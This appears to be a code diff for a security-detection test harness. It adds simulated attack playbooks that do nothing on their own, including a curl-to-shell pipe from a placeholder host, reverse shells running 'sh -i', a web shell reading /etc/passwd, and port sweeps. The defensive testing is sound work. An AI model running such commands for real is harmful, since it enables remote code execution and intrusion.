@@ -24,12 +24,20 @@ func ofBehaviours() []Playbook {
 			}
 			return s.run("", program{Image: "/tmp/vigil-downloaded"})
 		}},
+		{"download-pipe", []string{"vigil-download-pipe"}, "runs a program that does nothing as curl would run, piped into a shell that does nothing", "", func(s *stage) error {
+			return s.pipe(program{Image: "/usr/bin/curl", Arguments: []string{"curl", "-fsS", "http://vigil.example/setup"}}, program{Image: "/bin/sh"})
+		}},
 		{"web-shell", []string{"vigil-web-shell"}, "runs a shell that does nothing, told to show the password file, below a program called php-fpm", "", func(s *stage) error {
 			return s.run("/usr/sbin/php-fpm8.2", command("cat /etc/passwd"))
 		}},
 		{"reverse-shell", []string{"vigil-reverse-shell", "vigil-shell-socket"}, "connects within a network of its own and runs a shell that does nothing on the socket", "", func(s *stage) error {
 			p := peer
 			p.Then = &program{Image: "/bin/sh", Arguments: []string{"sh", "-i"}, Socket: true}
+			return s.event("/usr/bin/python3", nil, p)
+		}},
+		{"reverse-shell-pipes", []string{"vigil-reverse-shell-pipes"}, "connects within a network of its own and runs a shell that does nothing on pipes", "", func(s *stage) error {
+			p := peer
+			p.Then = &program{Image: "/bin/sh", Arguments: []string{"sh", "-i"}, Pipes: true}
 			return s.event("/usr/bin/python3", nil, p)
 		}},
 		{"mining", []string{"vigil-mining", "vigil-miner-process"}, "runs a program that does nothing with a miner's arguments", "", func(s *stage) error {
@@ -58,8 +66,20 @@ func ofBehaviours() []Playbook {
 		{"port-scan", []string{"vigil-port-scan"}, "tries eighty ports within a network of its own", "", func(s *stage) error {
 			return s.event("/usr/bin/scan", nil, part{Do: "scan", Host: peer.Host, Port: 80})
 		}},
+		{"port-sweep", []string{"vigil-port-sweep"}, "tries one port of eighty addresses within a network of its own", "", func(s *stage) error {
+			return s.event("/usr/bin/scan", nil, part{Do: "sweep", Host: "198.51.100.9", Port: 22})
+		}},
+		{"port-probe", []string{"vigil-port-probe"}, "lets one address in at eight ports within a network of its own", "", func(s *stage) error {
+			return s.event("/usr/sbin/server", nil, part{Do: "probe", Host: "198.51.100.9", From: "198.51.100.10", Port: 7000})
+		}},
 		{"intelligence-domain", []string{"vigil-intelligence-domain"}, "asks for malware.vigil.example within a network of its own; needs Indicators among the lists", "", func(s *stage) error {
 			return s.event("/usr/bin/agent", nil, part{Do: "ask", Text: "malware.vigil.example"})
+		}},
+		{"intelligence-address", []string{"vigil-intelligence-address"}, "connects to 203.0.113.66 within a network of its own; needs Indicators among the lists", "", func(s *stage) error {
+			return s.event("/usr/bin/agent", nil, part{Do: "connect", Host: "203.0.113.66", Port: 443})
+		}},
+		{"intelligence-guest", []string{"vigil-intelligence-guest"}, "lets 203.0.113.66 in within a network of its own; needs Indicators among the lists", "", func(s *stage) error {
+			return s.event("/usr/sbin/server", nil, part{Do: "let_in", Host: "203.0.113.65", From: "203.0.113.66", Port: 7000})
 		}},
 		{"intelligence-download", []string{"vigil-intelligence-download"}, "connects to 203.0.113.66 within a network of its own as curl would; needs Indicators among the lists", "", func(s *stage) error {
 			return s.event("/usr/bin/curl", nil, part{Do: "connect", Host: "203.0.113.66", Port: 80})
